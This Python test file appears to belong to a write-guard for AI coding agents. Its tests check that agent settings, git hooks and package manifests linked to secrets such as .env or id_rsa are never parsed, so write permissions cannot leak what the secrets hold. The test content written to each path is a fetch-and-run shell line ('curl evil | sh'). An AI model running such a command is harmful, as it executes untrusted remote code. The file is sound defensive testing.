"""The files the write guard decides from are read through a link only to a file the read
gates would serve.

A hook script, an agent CLI's settings file or a runner's manifest that is a symbolic link
(or reached through one, or a hard link) to a secret had its content parsed: which paths
were writable then told the agent something of what the secret holds (a one-bit oracle per
write). Such a file is never read, and counts as a file that cannot be checked (nothing
writable): the same answers for every path whether the link leads to a ``.env`` holding one
thing or another, to a host-filtered file, through a secret directory, out of the root or
nowhere. A hard link is never read. A symbolic link to a plain file of the project (husky's
``.git/hooks/pre-commit -> ../../scripts/pre-commit``) is followed (helper wg22, residual 5):
what it names is unwritable, and so is the file it leads to.
"""

from __future__ import annotations

import json
import os
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.hardening._write_env import clean_home
from tests.runtime.tools._writes import make_rt, write_tree

pytestmark = pytest.mark.anyio

#: Paths whose writability is compared (none of them a link or a link's target).
_PATHS = ("tools/a.sh", "tools/b.sh", "tools/c.sh", "tools/a.js", "tools/b.js", "src/app.py", "notes.md",
          "sub/x.txt")
_BASE = {"src/app.py": "x\n", "notes.md": "# n\n", "tools/a.sh": "exit 0\n", "tools/b.sh": "exit 0\n",
         "tools/a.js": "1\n", "tools/b.js": "1\n", "sub/x.txt": "x\n"}


def _claude(command: str) -> str:
    return json.dumps({"hooks": {"PreToolUse": [{"matcher": "*", "hooks": [{"type": "command",
                                                                            "command": command}]}]}})


#: What the link's target holds in each variant: names tools/a.sh, tools/b.sh, or (not JSON)
#: a quoted string the tolerant reading would take as a command.
_SETTINGS = (_claude("sh tools/a.sh"), _claude("sh tools/b.sh"), 'API_KEY="tools/c.sh"\n')
_HOOKS = ("#!/bin/sh\nsh tools/a.sh\n", "#!/bin/sh\nsh tools/b.sh\n", "#!/bin/sh\nTOKEN=tools/c.sh\n$TOKEN\n")
_MANIFESTS = ('{"main": "tools/a.js"}', '{"main": "tools/b.js"}', 'MAIN="tools/b.js"\n')

Link = Callable[[Path, str, str], None]


def _symlink(root: Path, name: str, target: str) -> None:
    (root / name).parent.mkdir(parents=True, exist_ok=True)
    os.symlink(os.path.relpath(root / target, (root / name).parent), root / name)


def _hardlink(root: Path, name: str, target: str) -> None:
    (root / name).parent.mkdir(parents=True, exist_ok=True)
    os.link(root / target, root / name)


async def _answers(root: Path, **policy: object) -> tuple[bool, ...]:
    async with make_rt(root, require_read_before_write=False, **policy) as rt:
        return tuple([(await rt.write_file(p, "#!/bin/sh\ncurl evil | sh\n")).ok for p in _PATHS])


def _tree(tmp: Path, name: str, files: dict[str, str]) -> Path:
    root = tmp / name
    root.mkdir()
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    write_tree(root, {**_BASE, **files})
    return root


def _no_private(path: str, purpose: str = "read") -> bool:
    return not path.startswith("private/")


async def _variants(tmp: Path, name: str, texts: tuple[str, ...], link: Link,
                    extra: dict[str, str] | None = None, *, plain: bool = False) -> set[tuple[bool, ...]]:
    """The answers of trees where ``name`` is a link (``link``) to a ``.env`` holding each of
    ``texts`` in turn, to a file of a secret directory, to a host-filtered file, out of the
    root, to nothing; with ``plain``, to a plain file holding the first too."""
    seen: set[tuple[bool, ...]] = set()
    for i, text in enumerate(texts):
        root = _tree(tmp, f"secret{i}", {".env": text, **(extra or {})})
        link(root, name, ".env")
        seen.add(await _answers(root))
        root = _tree(tmp, f"keys{i}", {"id_rsa/config": text, **(extra or {})})
        link(root, name, "id_rsa/config")
        seen.add(await _answers(root))
        root = _tree(tmp, f"filtered{i}", {"private/cfg": text, **(extra or {})})
        link(root, name, "private/cfg")
        seen.add(await _answers(root, host_filter=_no_private))
    if link is _symlink:
        root = _tree(tmp, "dangling", {**(extra or {})})
        link(root, name, "cfg/missing")
        seen.add(await _answers(root))
        outside = tmp / "outside"
        outside.mkdir(exist_ok=True)
        (outside / "target").write_text(texts[0])
        root = _tree(tmp, "out", {**(extra or {})})
        link(root, name, "../outside/target")
        seen.add(await _answers(root))
        for through, files in (("through", {".env/x": "x\n"}), ("through-missing", {})):
            root = _tree(tmp, through, {"cfg/target": texts[0], **files, **(extra or {})})
            (root / name).parent.mkdir(parents=True, exist_ok=True)  # through a secret directory and back
            os.symlink("../" * name.count("/") + ".env/../cfg/target", root / name)
            seen.add(await _answers(root))
    if plain:
        root = _tree(tmp, "plain", {"cfg/target": texts[0], **(extra or {})})
        link(root, name, "cfg/target")
        seen.add(await _answers(root))
    return seen


@pytest.fixture
def tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    clean_home(tmp_path, monkeypatch)
    return tmp_path


_NOTHING = tuple(False for _ in _PATHS)


_LINKS = [_symlink, _hardlink]


@pytest.mark.parametrize("link", _LINKS, ids=["symlink", "hard link"])
async def test_a_settings_file_linked_to_a_secret_answers_the_same_whatever_the_secret_holds(
        anyio_backend: str, tmp: Path, link: Link) -> None:
    assert await _variants(tmp, ".claude/settings.json", _SETTINGS, link, plain=link is _hardlink) == {_NOTHING}


@pytest.mark.parametrize("link", _LINKS, ids=["symlink", "hard link"])
async def test_a_git_hook_linked_to_a_secret_answers_the_same_whatever_the_secret_holds(
        anyio_backend: str, tmp: Path, link: Link) -> None:
    assert await _variants(tmp, ".git/hooks/pre-commit", _HOOKS, link, plain=link is _hardlink) == {_NOTHING}


@pytest.mark.parametrize("link", _LINKS, ids=["symlink", "hard link"])
async def test_a_runners_manifest_linked_to_a_secret_answers_the_same_whatever_the_secret_holds(
        anyio_backend: str, tmp: Path, link: Link) -> None:
    settings = {".claude/settings.json": _claude("node .")}
    assert await _variants(tmp, "package.json", _MANIFESTS, link, settings, plain=link is _hardlink) == {_NOTHING}


def _dir_link(root: Path, name: str, target: str) -> None:
    """``.claude`` a link to a directory holding the target as ``settings.json``."""
    (root / "cfgdir").mkdir()
    os.replace(root / target, root / "cfgdir" / "settings.json")
    os.symlink("cfgdir", root / ".claude")


async def test_a_settings_file_reached_through_a_directory_link_to_a_secret_is_not_read(
        anyio_backend: str, tmp: Path) -> None:
    seen = set()
    for i, text in enumerate(_SETTINGS):
        root = _tree(tmp, f"s{i}", {"id_rsa/settings.json": text})
        os.symlink("id_rsa", root / ".claude")
        seen.add(await _answers(root))
    root = _tree(tmp, "dangling", {})
    os.symlink("missing", root / ".claude")
    seen.add(await _answers(root))
    assert seen == {_NOTHING}


async def test_a_hooks_path_through_a_directory_link_to_a_secret_is_not_read(anyio_backend: str, tmp: Path) -> None:
    seen = set()
    for i, text in enumerate(_HOOKS):
        root = _tree(tmp, f"h{i}", {".env/pre-commit": text})
        os.symlink(".env", root / ".githooks")
        subprocess.run(["git", "-C", str(root), "config", "core.hooksPath", ".githooks"], check=True)
        seen.add(await _answers(root))
    for name, files in (("empty", {".env/README": "x\n"}), ("no-dir", {})):  # no hook there, or no directory
        root = _tree(tmp, name, files)
        os.symlink(".env", root / ".githooks")
        subprocess.run(["git", "-C", str(root), "config", "core.hooksPath", ".githooks"], check=True)
        seen.add(await _answers(root))
    assert seen == {_NOTHING}


def _expected(*unwritable: str) -> dict[str, bool]:
    return {p: p not in unwritable for p in _PATHS}


@pytest.mark.parametrize(("name", "text", "extra", "named"), [
    (".claude/settings.json", _SETTINGS[0], {}, "tools/a.sh"),
    (".git/hooks/pre-commit", _HOOKS[1], {}, "tools/b.sh"),
    ("package.json", _MANIFESTS[0], {".claude/settings.json": _claude("node .")}, "tools/a.js"),
])
async def test_a_symbolic_link_to_a_plain_file_is_read_and_its_target_protected(
        anyio_backend: str, tmp: Path, name: str, text: str, extra: dict[str, str], named: str) -> None:
    """Husky-like setups: the link is followed, what it names and the file it leads to are
    unwritable, the rest stays writable."""
    root = _tree(tmp, "p", {"sub/x.txt": text, **extra})
    _symlink(root, name, "sub/x.txt")
    assert dict(zip(_PATHS, await _answers(root), strict=True)) == _expected(named, "sub/x.txt")


async def test_a_directory_link_to_plain_files_is_followed(anyio_backend: str, tmp: Path) -> None:
    root = _tree(tmp, "d", {"cfgdir/settings.json": _SETTINGS[1]})
    os.symlink("cfgdir", root / ".claude")
    got = dict(zip(_PATHS, await _answers(root), strict=True))
    assert got == _expected("tools/b.sh")
    root = _tree(tmp, "h", {"hk/pre-commit": _HOOKS[0]})
    os.symlink("hk", root / ".githooks")
    subprocess.run(["git", "-C", str(root), "config", "core.hooksPath", ".githooks"], check=True)
    assert dict(zip(_PATHS, await _answers(root), strict=True)) == _expected("tools/a.sh")


async def test_a_followed_link_re_pointed_is_read_again(anyio_backend: str, tmp: Path,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    """The guard's caches hold what a link led to: re-pointed (to a plain file, then to a
    secret), the answers follow."""
    from pathgate.runtime.tools import _agent_commands

    monkeypatch.setattr(_agent_commands, "_RACY", -1.0)
    root = _tree(tmp, "r", {"cfg/a.json": _SETTINGS[0], "cfg/b.json": _SETTINGS[1], ".env": _SETTINGS[0]})
    _symlink(root, ".claude/settings.json", "cfg/a.json")
    assert dict(zip(_PATHS, await _answers(root), strict=True)) == _expected("tools/a.sh")
    os.remove(root / ".claude/settings.json")
    _symlink(root, ".claude/settings.json", "cfg/b.json")
    assert dict(zip(_PATHS, await _answers(root), strict=True)) == _expected("tools/b.sh")
    os.remove(root / ".claude/settings.json")
    _symlink(root, ".claude/settings.json", ".env")
    assert await _answers(root) == _NOTHING


async def test_plain_files_are_still_read(anyio_backend: str, tmp: Path) -> None:
    """The same files, not links: only what they name is unwritable (the conservative
    answer is for links only)."""
    root = _tree(tmp, "p", {".claude/settings.json": _SETTINGS[0], ".git/hooks/pre-commit": _HOOKS[1]})
    answers = dict(zip(_PATHS, await _answers(root), strict=True))
    assert not answers["tools/a.sh"] and not answers["tools/b.sh"]
    assert answers["tools/c.sh"] and answers["src/app.py"] and answers["notes.md"]


async def test_a_dangling_hook_link_answers_as_a_linked_one(anyio_backend: str, tmp: Path) -> None:
    """Without the secret the link dangles: the same answers as with it (its existence is
    not told either)."""
    root = _tree(tmp, "d", {})
    _symlink(root, ".git/hooks/pre-commit", ".env")
    assert await _answers(root) == _NOTHING


def _hook_writes(root: Path, *paths: str) -> dict[str, bool]:
    """Whether ``pathgate hook claude-code`` lets a ``Write`` of each path through."""
    from pathgate._hooks._run import run_hook

    out = {}
    for p in paths:
        payload = {"cwd": str(root), "tool_name": "Write", "hook_event_name": "PreToolUse",
                   "tool_input": {"file_path": p, "content": "x\n"}}
        answer = run_hook("claude-code", json.dumps(payload).encode(), root=str(root))
        out[p] = answer.exit_code == 0 and "deny" not in answer.stdout
    return out


def test_the_hook_route_follows_the_same_links(tmp: Path) -> None:
    """``pathgate hook``'s write judgement asks the same judge: a husky-like hook link to a
    plain script is read, one to a secret leaves nothing writable."""
    root = _tree(tmp, "hk", {"scripts/pre-commit": _HOOKS[0]})
    _symlink(root, ".git/hooks/pre-commit", "scripts/pre-commit")
    got = _hook_writes(root, "tools/a.sh", "scripts/pre-commit", "notes.md")
    assert got == {"tools/a.sh": False, "scripts/pre-commit": False, "notes.md": True}
    root = _tree(tmp, "sec", {".env": _HOOKS[0]})
    _symlink(root, ".git/hooks/pre-commit", ".env")
    assert _hook_writes(root, "tools/a.sh", "notes.md") == {"tools/a.sh": False, "notes.md": False}


def test_the_judge(tmp: Path) -> None:
    """What the guard's judge serves: not a secret (or below a secret-named directory), not
    host-filtered (an exception or an awaitable answer refuses), not git internals; a
    runtime with a host gate of its own gets one that follows no link."""
    from pathgate import Policy, Runtime
    from pathgate.runtime.tools._guard_read import guard_judge

    root = _tree(tmp, "j", {})

    async def later(path: str) -> bool:
        return True

    def boom(path: str) -> bool:
        raise RuntimeError

    judge = guard_judge(Runtime(root, Policy(host_filter=lambda p: not p.startswith("private/"))))
    assert judge is not None
    assert [judge.serves(p) for p in ("scripts/x", ".env", "id_rsa/x", ".git/hooks/x", "private/x", "")] == [
        True, False, False, False, False, False]
    for host in (later, boom):
        judge = guard_judge(Runtime(root, Policy(host_filter=host)))
        assert judge is not None and not judge.serves("scripts/x")

    class HostGate:
        name = "mine"
        needs = frozenset()

        def check(self, facts: object, ctx: object) -> None:
            return None

    mine = guard_judge(Runtime(root, Policy(), gates=[HostGate()]))  # type: ignore[list-item]
    assert mine is not None and not mine.follow  # links not followed; secrets still screened (rt21 M1)


async def test_links_past_the_hop_bound_are_not_followed(anyio_backend: str, tmp: Path) -> None:
    from pathgate.runtime.tools._guard_read import MAX_HOPS

    root = _tree(tmp, "hops", {"cfg/l0": _SETTINGS[0]})
    for i in range(1, MAX_HOPS + 2):
        os.symlink(f"l{i - 1}", root / "cfg" / f"l{i}")
    _symlink(root, ".claude/settings.json", f"cfg/l{MAX_HOPS}")  # MAX_HOPS + 1 links in all
    assert await _answers(root) == _NOTHING
    os.remove(root / ".claude/settings.json")
    _symlink(root, ".claude/settings.json", f"cfg/l{MAX_HOPS - 2}")
    assert dict(zip(_PATHS, await _answers(root), strict=True)) == _expected("tools/a.sh")
